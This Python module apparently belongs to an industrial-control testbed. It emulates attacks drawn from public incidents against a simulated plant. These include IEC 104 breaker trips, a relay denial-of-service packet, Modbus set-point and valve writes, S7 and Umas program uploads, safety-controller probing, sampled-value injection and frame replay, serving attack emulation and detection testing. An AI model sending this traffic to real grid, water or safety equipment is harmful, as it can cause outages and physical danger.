"""What public reports of incidents tell of the wire, in this plant's protocols: grids, water, safety, wipers."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import struct
import subprocess
import time
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.power import FEEDER_ADDRESS, FEEDER_SWITCHES
from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import dnp3, iec104
from interlock.plant.protocols.tristation import CONNECT, CP_STATUS, command, envelope
from proving.clients.talk import Talk, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_IEC: Final = 2404
_DNP: Final = 20000
_MODBUS: Final = 502
_INTERFACE: Final = "eth0"
_SV: Final = 0x88BA
_GOOSE: Final = 0x88B8
_OUTGOING: Final = 4
_LONG_AGO_S: Final = 1_795_900_000.0
_BREAKER: Final = FEEDER_SWITCHES[0].command


def _adu(pdu: bytes, number: int = 1, unit: int = 1) -> bytes:
    return struct.pack("!HHHB", number & 0xFFFF, 0, len(pdu) + 1, unit) + pdu


def _modbus(to: str, pdus: list[bytes], pause_s: float) -> None:
    with Talk(to, _MODBUS) as talk:
        for number, pdu in enumerate(pdus):
            talk.say(_adu(pdu, number + 1), pause_s)


def _commanded(to: str, wanted: list[tuple[int, int, bytes]], pause_s: float) -> None:
    """IEC 104 commands (type, object, element) by a master that does as the standard says."""
    master = iec104.Master(FEEDER_ADDRESS)
    with Talk(to, _IEC) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for kind, address, element in wanted:
            answer = talk.say(master.command(kind, address, element), pause_s)
            master.heard([answer] if answer else [])


def industroyer_range(to: str) -> None:
    """Each object of a range selected, then executed: what answers is what there is (2016)."""
    rows = [(45, at, element) for at in range(4990, 5012) for element in (b"\x80", b"\x00")]
    _commanded(to, rows, 0.15)


def cosmicenergy(to: str) -> None:
    """LIGHTWORK: one command that opens, and the connection is gone (2023)."""
    _commanded(to, [(45, _BREAKER, b"\x00")], 0.1)
    _commanded(to, [(46, _BREAKER, b"\x01")], 0.1)


def scada_commands(to: str) -> None:
    """MicroSCADA told by a script to open what it controls: the station itself commands (2022)."""
    _commanded(to, [(45, _BREAKER, b"\x80"), (45, _BREAKER, b"\x00")], 0.5)


def relay_hung(to: str) -> None:
    """Eighteen octets that hang a protection relay until somebody restarts it (CVE-2015-5374)."""
    octets = bytes.fromhex("1149000000000000000000000000000000 28 9e".replace(" ", ""))
    tell(to, 50000, *[octets] * 4, pause_s=0.5)


def gateway_firmware(to: str) -> None:
    """A firmware file put into a station's gateway by TFTP, so that nobody reaches it again (2015)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        talk.settimeout(0.2)
        talk.sendto(b"\x00\x02firmware.rom\x00octet\x00", (to, 69))
        for block in range(1, 30):
            with contextlib.suppress(OSError):
                talk.sendto(struct.pack("!HH", 3, block) + _whatever(block) * 16, (to, 69))
            time.sleep(0.1)


def implant_by_mqtt(to: str) -> None:
    """IOCONTROL: an implant in a controller greets its broker outside over and over (2024)."""
    greeting = b"\x00\x04MQTT\x04\xc2\x00\x3c" + b"\x00\x0bdevice-0001" + b"\x00\x05admin" + b"\x00\x06secret"
    for _ in range(8):
        with Talk(to, 1883, 0.5) as talk:
            talk.say(bytes((0x10, len(greeting))) + greeting, 2.0)


def searched_by_pcom(to: str) -> None:
    """CyberAv3ngers: controllers searched by the port of their maker's protocol (2023)."""
    net = to.rpartition(".")[0]
    for host in range(8, 34):
        with Talk(f"{net}.{host}", 20256, 0.2) as talk:
            talk.say(b"/00IDED\r", 0.2)


def _whatever(number: int) -> bytes:
    return hashlib.sha256(str(number).encode()).digest()


def gateway_flooded(to: str) -> None:
    """Fuxnet: whatever octets to sensors of all addresses behind a gateway (2024)."""
    with Talk(to, _MODBUS, 0.02) as talk:
        for number in range(900):
            octets = _whatever(number)
            pdu = bytes(((6, 16, 5, 90)[octets[0] % 4],)) + octets[1:6]
            talk.send(_adu(pdu, number, number % 247 + 1))
            time.sleep(0.008)


def valve_opened(to: str) -> None:
    """A panel with a weak password, and a valve fully open for hours: it is written once and again (2025)."""
    _modbus(to, [struct.pack("!BHH", 5, 0, 0xFF00)] * 3, 4.0)


def dose_raised(to: str) -> None:
    """Oldsmar: somebody at the panel raises a set point far beyond what anybody asked (2021)."""
    _modbus(to, [struct.pack("!BHH", 6, 0, 2400)], 1.0)


def safety_looked_at(to: str) -> None:
    """TRITON before its payload: the controller's status, and its program asked for part by part (2017)."""
    asked = [command(CP_STATUS, number) for number in range(1, 6)]
    parts = [command(65, number, struct.pack("<HHI", 1, number, 0)) for number in range(6, 12)]
    tell(to, 1502, envelope(CONNECT), *asked, *parts, pause_s=0.3)


_CONNECT: Final = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
_SETUP: Final = bytes.fromhex("0300001902f08032010000000000080000f0000001000101e0")


def _job(number: int, parameter: bytes, data: bytes = b"") -> bytes:
    s7 = struct.pack("!BBHHHH", 0x32, 1, 0, number, len(parameter), len(data)) + parameter + data
    return struct.pack("!BBH", 3, 0, len(s7) + 7) + b"\x02\xf0\x80" + s7


def blocks_infected(to: str) -> None:
    """Stuxnet: the cyclic block and a function of its own handed over by the engineering station (2010)."""
    with Talk(to, 102) as talk:
        talk.say(_CONNECT)
        talk.say(_SETUP)
        for number, name in enumerate((b"_0800001P", b"_0800035P", b"_0C01869P")):
            request = b"\x1a\x00\x01\x00\x00\x00\x00\x00\x09" + name + b"\x0d1000200000150"
            talk.say(_job(2 * number + 1, request), 0.5)
            talk.say(
                _job(
                    2 * number + 2,
                    b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x0a\x01\x00" + name[1:] + b"\x05_INSE",
                ),
                0.5,
            )


def worm_between_controllers(to: str) -> None:
    """PLC-Blaster: a controller looks for others of its kind, address by address (2016)."""
    net = to.rpartition(".")[0]
    for host in range(1, 40):
        if f"{net}.{host}" != BY_NAME["plc-boiler"].ip:
            with Talk(f"{net}.{host}", 102, 0.15) as talk:
                talk.say(_CONNECT, 0.05)


def controllers_called(to: str) -> None:
    """PIPEDREAM: everybody asked who is a controller by the makers' search datagrams (2022)."""
    for port in (27127, 1740, 1741, 1742, 1743, 9600):
        tell(to, port, bytes.fromhex("c56b40400002c200040400000000"), bytes.fromhex("01000100"), pause_s=0.2)


def machine_dark(to: str) -> None:  # noqa: ARG001 - it is the machine's own end
    """EKANS, KillDisk: a machine stops working, with all that it collects or shows (2020, 2015)."""
    subprocess.run(["ip", "link", "set", _INTERFACE, "down"], check=True)
    time.sleep(70.0)
    subprocess.run(["ip", "link", "set", _INTERFACE, "up"], check=True)


def program_taken_over(to: str) -> None:
    """Umas: identified, reserved, a program begun, handed over, ended, and started (2021, 2022)."""
    parts = [b"\x5a\x01\x31\x00\x01" + struct.pack("<HH", at, 200) + bytes(200) for at in range(1, 6)]
    first = [
        bytes.fromhex(t)
        for t in ("5a0002", "5a0001", "5a00102500000007434f4e54524f4c", "5a0141ff00", "5a01300001")
    ]
    _modbus(to, [*first, *parts, bytes.fromhex("5a013200010600"), bytes.fromhex("5a0140ff00")], 0.2)


def building_locked(to: str) -> None:
    """KNXnet/IP: searched, described, connected, and a key set that nobody else knows (2021)."""
    here = bytes.fromhex("0801") + socket.inet_aton("10.77.1.40") + struct.pack("!H", 3671)
    rows = [(0x0201, here), (0x0203, here), (0x0205, here + here + bytes.fromhex("04040200")),
            (0x0420, bytes.fromhex("04010000") + bytes.fromhex("1100b060000011010743d300deadbeef"))]  # fmt: skip
    tell(
        to,
        3671,
        *(struct.pack("!BBHH", 6, 0x10, kind, len(body) + 6) + body for kind, body in rows),
        pause_s=0.5,
    )


def screens_tried(to: str) -> None:
    """Screens of panels searched and passwords tried at them (2025)."""
    for _ in range(15):
        with Talk(to, 5900, 0.3) as talk:
            talk.say(b"RFB 003.008\n", 0.3)


def inputs_replayed(to: str) -> None:  # noqa: ARG001 - in its own name
    """Stuxnet: what a remote I/O said a while ago is said again, over and over, in its name (2010)."""
    kept: list[bytes] = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind((_INTERFACE, 0))
        end = time.monotonic() + 6.0
        while time.monotonic() < end:
            frame, (_, _, kind, *_) = link.recvfrom(2048)
            if kind == _OUTGOING and (frame[12:14] == b"\x88\x92" or frame[16:18] == b"\x88\x92"):
                kept.append(frame)
        for _ in range(3):
            for frame in kept[:120]:
                link.send(frame)
                time.sleep(0.03)


def reports_silenced(to: str) -> None:
    """Maroochy: a station's reports switched off, and its pump commanded over and over (2000)."""
    off = bytes.fromhex("3c02063c03063c0406")
    with Talk(to, _DNP) as talk:
        talk.say(dnp3.request(1, 21, off), 1.0)
        for turn in range(8):
            talk.say(dnp3.request(2 + turn, 5, dnp3.control(0, on=bool(turn % 2))), 1.0)


def _sampled(number: int) -> bytes:
    seq = struct.pack("!ii", 4000 + number, 0) * 8
    body = b"\x80\x04MU01" + b"\x82\x02" + struct.pack("!H", number) + b"\x83\x04\x00\x00\x00\x01\x85\x01\x02"
    body += b"\x87" + bytes((len(seq),)) + seq
    asdu = b"\x30\x81" + bytes((len(body),)) + body
    pdu = b"\x80\x01\x01\xa2\x81" + bytes((len(asdu),)) + asdu
    return b"\x60\x81" + bytes((len(pdu),)) + pdu


def samples_injected(to: str) -> None:  # noqa: ARG001 - to a group
    """Measurements of a merging unit that is none, to the group of a substation's protection."""
    ends = bytes.fromhex("010ccd040001") + BY_NAME["vendor-laptop"].end.mac
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((_INTERFACE, 0))
        for number in range(400):
            apdu = _sampled(number)
            link.send(ends + struct.pack("!HHHHH", _SV, 0x4000, len(apdu) + 8, 0, 0) + apdu)
            time.sleep(0.02)


def map_of_registers(to: str) -> None:
    """Reconnaissance as it is in data sets: every area read in blocks, to see what there is."""
    rows = [struct.pack("!BHH", function, at * 100, 100) for function in (1, 2, 3, 4) for at in range(12)]
    _modbus(to, rows, 0.1)


def clock_and_command(to: str) -> None:
    """A clock set back an hour, then commands with time stamps that lie: no log tells the order any more."""
    past = iec104.cp56(_LONG_AGO_S)
    _commanded(to, [(103, 0, past), (58, _BREAKER, b"\x00" + past)], 0.5)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "industroyer-range": industroyer_range,
    "cosmicenergy": cosmicenergy,
    "scada-commands": scada_commands,
    "relay-hung": relay_hung,
    "gateway-firmware": gateway_firmware,
    "implant-by-mqtt": implant_by_mqtt,
    "searched-by-pcom": searched_by_pcom,
    "gateway-flooded": gateway_flooded,
    "valve-opened": valve_opened,
    "dose-raised": dose_raised,
    "safety-looked-at": safety_looked_at,
    "blocks-infected": blocks_infected,
    "worm-between-controllers": worm_between_controllers,
    "controllers-called": controllers_called,
    "machine-dark": machine_dark,
    "program-taken-over": program_taken_over,
    "building-locked": building_locked,
    "screens-tried": screens_tried,
    "inputs-replayed": inputs_replayed,
    "reports-silenced": reports_silenced,
    "samples-injected": samples_injected,
    "map-of-registers": map_of_registers,
    "clock-and-command": clock_and_command,
}
